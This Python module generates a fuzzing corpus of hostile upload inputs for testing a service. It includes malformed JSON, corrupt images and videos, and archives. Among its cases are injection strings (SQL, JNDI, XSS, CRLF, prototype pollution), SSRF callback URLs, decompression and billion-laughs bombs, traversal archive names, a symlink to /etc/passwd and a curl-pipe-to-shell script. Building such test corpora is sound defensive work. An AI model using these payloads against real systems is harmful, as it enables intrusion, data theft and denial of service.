"""A corpus of hostile inputs, generated (deterministically) rather than shipped.

Over 200 cases in four families, each a :class:`Case` with a name saying what it attacks:
texts (JSON bodies: limits, Unicode tricks, nesting, odd types), images (truncated, lying
headers, decompression bombs), videos (broken container boxes, sizes that overflow) and
archives / documents (zip and gzip bombs, traversal names, symlinks, nested archives).
Nothing here is a real exploit for a real decoder; each is the classic shape of one.
"""

from __future__ import annotations

import gzip
import io
import json
import random
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass


@dataclass(frozen=True)
class Case:
    family: str  # text | image | video | archive
    name: str
    data: bytes  # for text: the raw JSON body; otherwise the file's bytes
    filename: str = "upload.bin"


def _png_chunk(kind: bytes, data: bytes, crc: int | None = None) -> bytes:
    c = zlib.crc32(kind + data) if crc is None else crc
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", c & 0xFFFFFFFF)


def png(width: int = 8, height: int = 8, *, idat: bytes | None = None, crc: int | None = None, color: int = 2,
        extra: list[bytes] | None = None) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, color, 0, 0, 0)
    if idat is None:
        row = b"\x00" + b"\x80" * (min(width, 64) * 3)
        idat = zlib.compress(row * max(1, min(height, 64)))
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr, crc) + b"".join(extra or [])
            + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b""))


def real_jpeg() -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (32, 32), (200, 30, 30)).save(buf, "JPEG")
    return buf.getvalue()


def real_gif() -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("P", (16, 16)).save(buf, "GIF")
    return buf.getvalue()


def real_webp() -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (16, 16), (0, 90, 200)).save(buf, "WEBP")
    return buf.getvalue()


def mp4_box(kind: bytes, payload: bytes, size: int | None = None) -> bytes:
    return struct.pack(">I", len(payload) + 8 if size is None else size) + kind + payload


def mp4(*boxes: bytes) -> bytes:
    return mp4_box(b"ftyp", b"isom\x00\x00\x02\x00isomiso2mp41") + b"".join(boxes)


def ebml(*elements: bytes) -> bytes:
    return b"\x1a\x45\xdf\xa3" + b"".join(elements)


def zip_of(entries: list[tuple[str, bytes]], method=zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=method) as z:
        for name, data in entries:
            z.writestr(name, data)
    return buf.getvalue()


def texts() -> list[Case]:
    big = 20_000
    bodies: list[tuple[str, object]] = [
        ("empty-object", {}), ("whitespace-only", {"text": " \t\n\u3000 "}), ("limit-exact", {"text": "字" * big}),
        ("limit-plus-one", {"text": "字" * (big + 1)}), ("nul", {"text": "a\x00b"}),
        ("control-chars", {"text": "".join(chr(i) for i in range(1, 32))}),
        ("zero-width-split", {"text": "赌\u200b博\u200c网\u200d站\ufeff"}),
        ("rtl-override", {"text": "\u202egnp.exe\u202c 正常文字"}),
        ("zalgo", {"text": "慈" + "\u0301\u0302\u0303\u0304" * 2000}),
        ("combining-flood", {"text": "\u0300" * big}), ("emoji-zwj", {"text": "👨‍👩‍👧‍👦" * 2000}),
        ("astral-plane", {"text": "\U00020000\U0002a6d6" * 3000}), ("homoglyph", {"text": "ԝеChat 加ⅴ信"}),
        ("bidi-isolates", {"text": "\u2066\u2067\u2068\u2069" * 1000}),
        ("private-use", {"text": "\ue000\uf8ff" * 1000}), ("noncharacters", {"text": "\ufffe\uffff\U0010ffff"}),
        ("one-long-token", {"text": "a" * big}), ("newlines", {"text": "\n" * big}),
        ("crlf-injection", {"text": "x", "external_id": "a\r\nX-Injected: 1", "user_id": "u\r\n"}),
        ("sql-like", {"text": "'; DROP TABLE items; --", "external_id": "' OR 1=1 --"}),
        ("template-like", {"text": "{{7*7}} ${jndi:ldap://x} <%= 7*7 %>"}),
        ("html", {"text": "<script>alert(1)</script><img src=x onerror=alert(1)>"}),
        ("kind-number", {"text": "x", "kind": 3}), ("kind-list", {"text": "x", "kind": ["text"]}),
        ("text-number", {"text": 12345}), ("text-list", {"text": ["a", "b"]}), ("text-object", {"text": {"a": 1}}),
        ("text-null", {"text": None}), ("text-bool", {"text": True}),
        ("declared-aigc-string", {"text": "x", "declared_aigc": "yes"}),
        ("declared-aigc-number", {"text": "x", "declared_aigc": 2}),
        ("callback-javascript", {"text": "x", "callback_url": "javascript:alert(1)"}),
        ("callback-file", {"text": "x", "callback_url": "file:///etc/passwd"}),
        ("callback-gopher", {"text": "x", "callback_url": "gopher://127.0.0.1:6379/_FLUSHALL"}),
        ("callback-huge", {"text": "x", "callback_url": "http://x/" + "a" * 3000}),
        ("external-id-huge", {"text": "x", "external_id": "e" * 5000}),
        ("external-id-unicode", {"text": "x", "external_id": "\u202e\u0000id"}),
        ("user-id-object", {"text": "x", "user_id": {"$ne": None}}),
        ("extra-fields", {"text": "x", "__proto__": {"admin": True}, "constructor": 1}),
        ("image-without-file", {"kind": "image"}), ("video-without-file", {"kind": "video", "text": "x"}),
    ]
    out = [Case("text", n, json.dumps(b, ensure_ascii=False).encode()) for n, b in bodies]
    raw: list[tuple[str, bytes]] = [
        ("lone-surrogate", b'{"text": "\\ud800 broken"}'), ("lone-low-surrogate", b'{"text": "x\\udc00"}'),
        ("surrogate-in-id", b'{"text": "x", "external_id": "\\udfff"}'),
        ("deep-array", b'{"text": "x", "n": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
        ("deep-object", b'{"text": "x", "n": ' + b'{"a":' * 50_000 + b"1" + b"}" * 50_000 + b"}"),
        ("huge-number", b'{"text": "x", "n": 1' + b"0" * 100_000 + b"}"),
        ("infinity", b'{"text": Infinity}'), ("nan", b'{"text": NaN}'), ("big-float", b'{"text": 1e999999}'),
        ("duplicate-keys", b'{"text": "a", "text": "b", "kind": "text", "kind": "image"}'),
        ("bom", b'\xef\xbb\xbf{"text": "x"}'), ("utf16", '{"text": "x"}'.encode("utf-16")),
        ("latin1", b'{"text": "caf\xe9"}'), ("overlong-utf8", b'{"text": "\xc0\xaf"}'),
        ("truncated", b'{"text": "x'), ("trailing-garbage", b'{"text": "x"} {"text": "y"}'),
        ("not-json", b"text=hello&kind=text"), ("bare-string", b'"just a string"'), ("bare-null", b"null"),
        ("empty-body", b""), ("only-whitespace", b"   \n "), ("many-keys", json.dumps({f"k{i}": i for i in range(20_000)} | {"text": "x"}).encode()),
        ("escaped-nul", b'{"text": "a\\u0000b"}'), ("escaped-everything", b'{"text": "' + b"\\u4e2d" * 20_000 + b'"}'),
    ]
    out += [Case("text", n, b) for n, b in raw]
    return out


def images() -> list[Case]:
    rng = random.Random(11)
    good_png, jpg, gif, webp = png(), real_jpeg(), real_gif(), real_webp()
    out: list[Case] = []
    for name, data in (("png", good_png), ("jpeg", jpg), ("gif", gif), ("webp", webp)):
        for cut in (8, 12, 16, 24, 33, len(data) // 2, len(data) - 1):
            if cut < len(data):
                out.append(Case("image", f"{name}-truncated-{cut}", data[:cut], f"t.{name}"))
        for k in range(4):
            b = bytearray(data)
            for _ in range(8):
                pos = rng.randrange(min(len(b), 4) + 0, len(b))
                b[pos] ^= 1 << rng.randrange(8)
            out.append(Case("image", f"{name}-bitflip-{k}", bytes(b), f"f.{name}"))
        out.append(Case("image", f"{name}-trailing-junk", data + rng.randbytes(4096), f"j.{name}"))
    out += [
        Case("image", "png-bomb-dimensions", png(100_000, 100_000), "bomb.png"),
        Case("image", "png-max-dimensions", png(0x7FFFFFFF, 0x7FFFFFFF), "max.png"),
        Case("image", "png-zero-size", png(0, 0), "zero.png"),
        Case("image", "png-bad-ihdr-crc", png(crc=0xDEADBEEF), "crc.png"),
        Case("image", "png-bad-color-type", png(color=9), "color.png"),
        Case("image", "png-idat-not-zlib", png(idat=b"not zlib at all"), "idat.png"),
        Case("image", "png-decompression-bomb", png(20_000, 20_000, idat=zlib.compress(b"\x00" * 60_000_000, 9)),
             "zbomb.png"),
        Case("image", "png-huge-text-chunk", png(extra=[_png_chunk(b"tEXt", b"AIGC\x00" + b"{" * 2_000_000)]), "t.png"),
        Case("image", "png-bad-xmp", png(extra=[_png_chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00<x:xmpmeta"
                                                           + b"<!ENTITY a '" + b"a" * 1000 + b"'>" * 100)]), "x.png"),
        Case("image", "png-many-chunks", png(extra=[_png_chunk(b"zzZz", b"") for _ in range(20_000)]), "m.png"),
        Case("image", "png-chunk-length-overflow", b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 0xFFFFFFF0) + b"IHDR" + b"\x00" * 20,
             "o.png"),
        Case("image", "jpeg-only-soi", b"\xff\xd8\xff", "s.jpg"),
        Case("image", "jpeg-huge-sof", b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03" + b"\x00" * 64 + b"\xff\xd9", "h.jpg"),
        Case("image", "jpeg-app1-exif-loop", b"\xff\xd8\xff\xe1\xff\xff" + b"Exif\x00\x00MM\x00*\x00\x00\x00\x08" + b"\x00" * 60000,
             "e.jpg"),
        Case("image", "jpeg-marker-flood", b"\xff\xd8" + b"\xff\xfe\x00\x02" * 50_000 + b"\xff\xd9", "c.jpg"),
        Case("image", "gif-huge-screen", b"GIF89a\xff\xff\xff\xff\x00\x00\x00;", "g.gif"),
        Case("image", "gif-frame-flood", b"GIF89a\x01\x00\x01\x00\x00\x00\x00" + b"!\xf9\x04\x00\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00" * 20_000 + b";",
             "f.gif"),
        Case("image", "webp-riff-size-lie", b"RIFF\xff\xff\xff\x7fWEBPVP8 " + b"\x00" * 64, "w.webp"),
        Case("image", "svg-billion-laughs", b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">'
             + b"".join(b'<!ENTITY %s "%s">' % (bytes([98 + i]), (b"&" + bytes([97 + i]) + b";") * 10) for i in range(9))
             + b']><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>', "lol.svg"),
        Case("image", "svg-script", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>', "s.svg"),
        Case("image", "png-polyglot-zip", good_png + zip_of([("evil.txt", b"x")]), "p.png"),
        Case("image", "png-named-exe", good_png, "invoice.exe"),
        Case("image", "random-after-png-magic", b"\x89PNG\r\n\x1a\n" + rng.randbytes(3000), "r.png"),
        Case("image", "random-after-jpeg-magic", b"\xff\xd8\xff" + rng.randbytes(3000), "r.jpg"),
        Case("image", "one-byte", b"\x89", "1.png"),
    ]
    return out


def videos() -> list[Case]:
    rng = random.Random(13)
    moov = mp4_box(b"moov", mp4_box(b"mvhd", b"\x00" * 100) + mp4_box(b"trak", mp4_box(b"tkhd", b"\x00" * 84)))
    good = mp4(moov, mp4_box(b"mdat", rng.randbytes(2048)))
    out = [Case("video", f"mp4-truncated-{n}", good[:n], "t.mp4") for n in (12, 20, 40, 64, 128, len(good) // 2, len(good) - 3)]
    out += [
        Case("video", "mp4-box-size-zero", mp4(mp4_box(b"moov", b"\x00" * 32, size=0)), "z.mp4"),
        Case("video", "mp4-box-size-one-no-largesize", mp4(mp4_box(b"moov", b"", size=1)), "o.mp4"),
        Case("video", "mp4-largesize-huge", mp4(struct.pack(">I", 1) + b"mdat" + struct.pack(">Q", 2**63 - 1)), "l.mp4"),
        Case("video", "mp4-box-size-overflow", mp4(mp4_box(b"moov", b"\x00" * 16, size=0xFFFFFFFF)), "v.mp4"),
        Case("video", "mp4-box-smaller-than-header", mp4(mp4_box(b"moov", b"", size=4)), "s.mp4"),
        Case("video", "mp4-deep-nesting", mp4(b"".join(struct.pack(">I", 8 * (5000 - i)) + b"moov" for i in range(5000))), "d.mp4"),
        Case("video", "mp4-box-flood", mp4(*(mp4_box(b"free", b"") for _ in range(50_000))), "f.mp4"),
        Case("video", "mp4-huge-duration", mp4(mp4_box(b"moov", mp4_box(b"mvhd", b"\x00" * 12 + b"\x00\x00\x00\x01" + b"\xff" * 8 + b"\x00" * 80))), "h.mp4"),
        Case("video", "mp4-only-ftyp", mp4(), "f.mp4"),
        Case("video", "mp4-no-moov", mp4(mp4_box(b"mdat", b"\x00" * 4096)), "n.mp4"),
        Case("video", "webm-garbage", ebml(rng.randbytes(2048)), "g.webm"),
        Case("video", "webm-huge-element-size", ebml(b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff"), "h.webm"),
        Case("video", "webm-unknown-size-loop", ebml(b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff" * 1000), "u.webm"),
        Case("video", "webm-only-magic", b"\x1a\x45\xdf\xa3", "m.webm"),
        Case("video", "avi-riff", b"RIFF\xff\xff\xff\xffAVI LIST" + b"\x00" * 256, "a.avi"),
        Case("video", "mkv-named-mp4", ebml(b"\x42\x86\x81\x01"), "x.mp4"),
    ]
    for k in range(16):
        b = bytearray(good)
        for _ in range(16):
            b[rng.randrange(8, len(b))] = rng.randrange(256)
        out.append(Case("video", f"mp4-mutated-{k}", bytes(b), f"m{k}.mp4"))
    for k in range(8):
        out.append(Case("video", f"webm-mutated-{k}", ebml(b"\x42\x86\x81\x01\x42\xf7\x81\x01", rng.randbytes(512)), f"w{k}.webm"))
    return out


def archives() -> list[Case]:
    rng = random.Random(17)
    zeros = b"\x00" * 50_000_000
    bomb = zip_of([("zeros.bin", zeros)])
    nested = bomb
    for depth in range(3):
        nested = zip_of([(f"layer{depth}.zip", nested)])
    out = [
        Case("archive", "zip-bomb-50MB", bomb, "bomb.zip"),
        Case("archive", "zip-bomb-nested", nested, "nested.zip"),
        Case("archive", "zip-many-entries", zip_of([(f"f{i}.txt", b"") for i in range(10_000)]), "many.zip"),
        Case("archive", "zip-traversal-names", zip_of([("../../../../tmp/pwned-corpus", b"x"), ("/etc/cron.d/x", b"y"),
                                                      ("..\\..\\win.ini", b"z")]), "trav.zip"),
        Case("archive", "zip-unicode-names", zip_of([("\u202eexe.txt", b"x"), ("nul\x01name", b"y")]), "u.zip"),
        Case("archive", "zip-stored-exe", zip_of([("setup.exe", b"MZ\x90\x00" + b"\x00" * 2000)], zipfile.ZIP_STORED), "s.zip"),
        Case("archive", "zip-truncated", bomb[: len(bomb) // 2], "t.zip"),
        Case("archive", "zip-only-eocd", b"PK\x05\x06" + b"\x00" * 18, "e.zip"),
        Case("archive", "zip-eocd-lies", b"PK\x05\x06\x00\x00\x00\x00\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\x00\x00", "l.zip"),
        Case("archive", "zip-local-header-huge-sizes", b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 8
             + b"\xff\xff\xff\xff\xff\xff\xff\xff\x05\x00\x00\x00a.txt" + rng.randbytes(100), "h.zip"),
        Case("archive", "gzip-bomb", gzip.compress(zeros, 9), "z.gz"),
        Case("archive", "gzip-truncated", gzip.compress(b"hello" * 1000)[:30], "t.gz"),
        Case("archive", "gzip-concatenated-flood", gzip.compress(b"") * 20_000, "c.gz"),
        Case("archive", "pdf-js", b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF",
             "js.pdf"),
        Case("archive", "pdf-truncated", b"%PDF-1.7\n1 0 obj<</Length 999999>>stream\n", "t.pdf"),
        Case("archive", "pdf-xref-loop", b"%PDF-1.4\nxref\n0 1\n0000000000 65535 f \ntrailer<</Prev 9>>\nstartxref\n9\n%%EOF", "x.pdf"),
        Case("archive", "rar-magic-only", b"Rar!\x1a\x07\x01\x00", "r.rar"),
        Case("archive", "7z-magic-only", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\xff" * 24, "a.7z"),
        Case("archive", "elf-stub", b"\x7fELF\x02\x01\x01" + b"\x00" * 120, "a.out"),
        Case("archive", "pe-stub", b"MZ" + b"\x00" * 58 + b"\x80\x00\x00\x00" + b"\x00" * 64 + b"PE\x00\x00", "x.exe"),
        Case("archive", "eicar", b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*", "eicar.com"),
        Case("archive", "shell-script", b"#!/bin/sh\ncurl http://127.0.0.1/x | sh\n", "x.sh"),
        Case("archive", "office-zip-macro-name", zip_of([("[Content_Types].xml", b"<Types/>"), ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")]),
             "m.docm"),
        Case("archive", "ole-magic", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rng.randbytes(512), "o.doc"),
        Case("archive", "empty-file", b"\x00", "empty.bin"),
        Case("archive", "all-ff", b"\xff" * 4096, "ff.bin"),
    ]
    tar_buf = io.BytesIO()
    with tarfile.open(fileobj=tar_buf, mode="w") as t:
        for name, kind in (("../../escape.txt", tarfile.REGTYPE), ("/abs/path.txt", tarfile.REGTYPE),
                           ("link", tarfile.SYMTYPE), ("dev", tarfile.CHRTYPE)):
            info = tarfile.TarInfo(name)
            info.type = kind
            if kind == tarfile.SYMTYPE:
                info.linkname = "/etc/passwd"
            t.addfile(info, io.BytesIO(b"") if kind == tarfile.REGTYPE else None)
    out.append(Case("archive", "tar-traversal-symlink-device", tar_buf.getvalue(), "t.tar"))
    out.append(Case("archive", "tar-gz-bomb", gzip.compress(tar_buf.getvalue() + zeros[:20_000_000], 9), "t.tar.gz"))
    for k in range(14):
        b = bytearray(zip_of([("a.txt", rng.randbytes(300)), ("b/c.txt", b"hello" * 50)]))
        for _ in range(10):
            b[rng.randrange(len(b))] = rng.randrange(256)
        out.append(Case("archive", f"zip-mutated-{k}", bytes(b), f"m{k}.zip"))
    return out


def build() -> list[Case]:
    cases = texts() + images() + videos() + archives()
    names = [f"{c.family}/{c.name}" for c in cases]
    if len(set(names)) != len(names):
        raise ValueError("corpus case names must be unique")
    return cases
